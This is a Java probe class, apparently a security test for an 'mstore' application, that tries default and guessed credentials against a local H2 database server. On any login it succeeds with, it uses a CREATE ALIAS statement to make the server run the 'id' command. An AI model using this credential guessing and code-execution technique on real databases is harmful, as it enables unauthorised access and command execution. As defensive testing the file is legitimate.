package org.mstore.security;

import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLException;
import java.sql.Statement;

/**
 * What another local user would try against a store's database server, run as {@code nobody} (with nothing but
 * the H2 jar): {@code ConnectProbe PORT KEY...}; for each key, the previous release's credentials and guesses.
 * Prints {@code CONNECTED ...} for a connection it got (and then tries to make the server run code), else
 * {@code refused ...} with H2's error.
 */
public final class ConnectProbe {
    static final String[][] CREDENTIALS = {{"mstore", ""}, {"MSTORE", "mstore"}, {"MSTORE_APP", ""}, {"sa", ""}, {"mstore", "password"}};

    private ConnectProbe() {
    }

    public static void main(String[] args) {
        String port = args[0];
        for (int i = 1; i < args.length; i++) {
            for (String[] cred : CREDENTIALS) {
                String url = "jdbc:h2:tcp://127.0.0.1:" + port + "/" + args[i];
                try (Connection c = DriverManager.getConnection(url, cred[0], cred[1]); Statement s = c.createStatement()) {
                    System.out.println("CONNECTED " + url + " as " + cred[0]);
                    s.execute("CREATE ALIAS PROBE_EXEC AS 'String x() throws Exception { return new String(new ProcessBuilder(\"id\").start()"
                            + ".getInputStream().readAllBytes()); }'");
                    System.out.println("CODE RAN " + s.executeQuery("CALL PROBE_EXEC()"));
                } catch (SQLException e) {
                    System.out.println("refused " + url + " as " + cred[0] + ": " + e.getErrorCode() + " " + e.getMessage().split("\n")[0]);
                }
            }
        }
    }
}
